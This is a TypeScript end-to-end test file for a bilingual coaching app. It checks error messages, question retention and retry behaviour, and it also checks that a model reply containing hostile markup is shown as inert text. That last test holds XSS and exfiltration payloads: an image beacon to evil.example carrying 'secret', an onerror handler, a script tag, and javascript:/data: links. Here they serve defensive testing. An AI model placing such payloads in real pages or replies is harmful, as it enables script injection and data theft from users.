// What can go wrong, said in the person's language: the question is kept, and asking again works once it is mended.
import type { Page } from "playwright-core";
import { expect, onTestFinished } from "vitest";
import { type MockUpstream, startMockUpstream } from "#server/testing/mock-upstream.ts";
import {
  ask,
  callCoach,
  composer,
  openDay,
  POST,
  questions,
  replies,
  shownWords,
  SOON_MS,
  storedQuestions,
  storedReplies,
  waitForWholeReply,
  writeDeliverable,
} from "./cockpit.ts";
import { modelEnv, test } from "./model-test.ts";
import { type Product, startProduct } from "./start-product.ts";

const NO_SERVER = [
  /ERR_CONNECTION_REFUSED/,
  /ERR_INCOMPLETE_CHUNKED_ENCODING/,
  /ERR_CONNECTION_RESET/,
  /ERR_EMPTY_RESPONSE/,
];

const CLICK_MS = 2_000;

const QUESTION = "Mon accroche tient-elle ?";
const ANSWER = "Verdict : PRESQUE — 3/4. Ça tient, à l’appel près.";

test("a key that is refused: said in French and in English, the question kept over a reload, and asking again works", async ({
  openPage,
  product,
  upstream,
}) => {
  upstream.fault("bad-key");
  const page = await openPage();
  await askInVain(page, product.origin);
  await expectSaid(page, "Le modèle a refusé la clé du serveur.", "The model refused the server’s key.");
  upstream.fault(null);
  upstream.reply(ANSWER);
  await expectMended(page);
});

test("a model that is not there: said in French and in English, the question kept, and asking again works once it is back", async ({
  openPage,
  product,
  upstream,
}) => {
  await upstream.close();
  const page = await openPage();
  await askInVain(page, product.origin);
  // Why is said while the next try is counted down, and not only that nobody answers.
  expect(await page.getByRole("alert").innerText()).toMatch(/Nouvel essai automatique dans\s\d+\ss/u);
  await expectSaid(page, "Le serveur n’arrive pas à joindre le modèle.", "The server cannot reach the model.");
  const back = await startMockUpstream(Number(new URL(upstream.url).port));
  onTestFinished(() => back.close());
  back.reply(ANSWER);
  await expectMended(page);
});

test("the server gone before the question leaves: it is kept and said, and leaves once when the server is back", async ({
  openPage,
  product,
  upstream,
}) => {
  const page = await openPage({ tolerates: NO_SERVER });
  await openDay(page, product.origin, 3);
  await callCoach(page);
  // Killed while the page still starts, it is found missing, and the question waits without being tried.
  await page.waitForLoadState("networkidle");
  await product.kill9();
  await ask(page, QUESTION);
  await page.getByText("Le serveur du programme ne répond pas.").first().waitFor();
  await restart(product, upstream);
  upstream.reply(ANSWER);
  await tryAgain(page, "Réessayer maintenant");
  await waitForWholeReply(page);
  expect((await storedReplies(page)).map(({ text }) => text)).toEqual([ANSWER]);
  expect(upstream.requests).toHaveLength(1);
});

test("a reply that carries a remote image, HTML and a script is words: nothing leaves, nothing runs", async ({
  openPage,
  product,
  upstream,
}) => {
  const hostile = [
    "![suivi](https://evil.example/pixel.png?q=secret)",
    '<img src="https://evil.example/x.png" onerror="globalThis.ran = 1">',
    "<script>globalThis.ran = 1</script>",
    "<iframe src=javascript:globalThis.ran=1></iframe>",
    "[clique ici](javascript:globalThis.ran=1) et [là](data:text/html,<script>globalThis.ran=1</script>)",
    "Fin.",
  ].join("\n\n");
  // The page's own watch fails the test at any request that leaves our origin, and at any refusal of the CSP.
  const page = await openPage();
  await openDay(page, product.origin, 3);
  await callCoach(page);
  upstream.reply(hostile, { chunk: 5, paceMs: 2 });
  await ask(page, QUESTION);
  await waitForWholeReply(page);
  await page.reload();
  await expect.poll(() => shownWords(page)).toContain("Fin.");
  const shown = await shownWords(page);
  expect(shown).toContain("<script>globalThis.ran = 1</script>");
  expect(shown).toContain('<img src="https://evil.example/x.png"');
  expect(await replies(page).locator("img, script, iframe").count()).toBe(0);
  expect(await replies(page).locator('a:not([href^="https://"])').count()).toBe(0);
  await replies(page).getByText("clique ici").click();
  expect(await page.evaluate(() => Reflect.get(globalThis, "ran"))).toBeUndefined();
  expect((await storedReplies(page))[0]?.text).toBe(hostile);
});

/** The same folder and port: the same account, and the page's own origin. */
async function restart({ port, dataDir }: Product, upstream: MockUpstream): Promise<void> {
  const restarted = await startProduct({ env: modelEnv(upstream), port, dataDir });
  onTestFinished(async () => void (await restarted.stop()));
}

async function askInVain(page: Page, origin: string): Promise<void> {
  await openDay(page, origin, 3);
  await writeDeliverable(page, POST);
  await callCoach(page);
  await ask(page, QUESTION);
  await page.getByRole("alert").waitFor();
  expect(await composer(page).inputValue()).toBe("");
}

async function expectSaid(page: Page, french: string, english: string): Promise<void> {
  const said = page.getByRole("alert");
  await expect.poll(() => said.innerText()).toContain(french);
  expect(await said.innerText()).toContain("Ta question et ton livrable sont gardés.");
  await page.reload();
  await expect.poll(() => said.innerText()).toContain(french);
  expect(await questions(page).innerText()).toContain(QUESTION);
  await page.getByRole("link", { name: "Réglages" }).click();
  await page.getByRole("button", { name: "English" }).click();
  await page.getByRole("link", { name: /^J3 / }).click();
  await expect.poll(() => said.innerText()).toContain(english);
  expect(await said.innerText()).toContain("Your question and draft are safe.");
}

/** Where the next try comes by itself it may come just before, and take the button away. */
async function tryAgain(page: Page, name: string): Promise<void> {
  await page
    .getByRole("button", { name })
    .click({ timeout: CLICK_MS })
    .catch(() => undefined);
}

async function expectMended(page: Page): Promise<void> {
  await tryAgain(page, "Try again now");
  await waitForWholeReply(page);
  await expect.poll(() => shownWords(page), { timeout: SOON_MS }).toContain("3 / 4");
  expect((await storedReplies(page)).at(-1)?.text).toBe(ANSWER);
  expect(await storedQuestions(page)).toHaveLength(1);
  expect(await page.getByRole("alert").count()).toBe(0);
}
